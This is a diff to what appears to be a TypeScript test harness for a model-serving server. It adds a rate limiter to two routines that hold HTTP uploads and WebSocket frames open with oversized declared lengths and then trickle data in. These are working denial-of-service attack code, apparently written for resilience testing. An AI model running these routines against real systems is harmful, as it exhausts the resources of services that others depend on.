@@ -6,6 +6,8 @@ import { onnxModel } from './tiny-models.ts'
 export interface Victim {
   readonly port: number
   readonly authorization: string
+  /** Bytes that the connections of an attack send in a second, all together, as over a network; default as many as they can. */
+  readonly bytesPerSecond?: number
 }
 
 /** An attack under way. */
@@ -27,7 +29,18 @@ export function sizedModel(): Uint8Array {
 }
 
 const MIB = 2 ** 20
-const PIECE = Buffer.alloc(MIB, 32)
+const PIECE = Buffer.alloc(64 * 1024, 32)
+
+/** Waits before bytes are sent, so that all that ask keep to the rate together. */
+function paceOf({ bytesPerSecond }: Victim): (bytes: number) => Promise<void> {
+  let freeMs = 0
+  return async (bytes) => {
+    if (bytesPerSecond === undefined) return
+    const nowMs = performance.now()
+    freeMs = Math.max(freeMs, nowMs) + (bytes / bytesPerSecond) * 1000
+    if (freeMs - nowMs > 1) await Bun.sleep(freeMs - nowMs)
+  }
+}
 
 interface Exchange {
   readonly socket: Socket
@@ -111,8 +124,14 @@ export function stalledUploads(
 ): Attack {
   const head = headOf(victim, '/models/sized/predict/', [`Content-Length: ${mebibytes * MIB}`])
   const exchanges = Array.from({ length: count }, () => open(victim, head))
+  const pace = paceOf(victim)
   const send = async (exchange: Exchange) => {
-    for (let sent = 1; sent < mebibytes && exchange.status === 0 && !exchange.socket.destroyed; sent += 1) {
+    for (
+      let left = (mebibytes - 1) * MIB;
+      left > 0 && exchange.status === 0 && !exchange.socket.destroyed;
+      left -= PIECE.length
+    ) {
+      await pace(PIECE.length)
       if (exchange.socket.write(PIECE)) continue
       const drained = new Promise<void>((resolve) => exchange.socket.once('drain', () => resolve()))
       await Promise.race([drained, exchange.answered])
@@ -156,12 +175,15 @@ export function sockets(
   const begin = Buffer.alloc(14)
   begin.set([0x82, 0x80 | 127])
   begin.writeBigUInt64BE(BigInt(messageBytes), 2)
+  const pace = paceOf(victim)
   const stall = async (exchange: Exchange) => {
     await exchange.answered
     if (messageBytes === 0 || exchange.status !== 101) return
     exchange.socket.write(begin)
-    for (let left = messageBytes - 1; left > 0; left -= PIECE.length)
+    for (let left = messageBytes - 1; left > 0 && !exchange.socket.destroyed; left -= PIECE.length) {
+      await pace(PIECE.length)
       exchange.socket.write(PIECE.subarray(0, Math.min(left, PIECE.length)))
+    }
   }
   return attack(exchanges, exchanges.map(stall))
 }
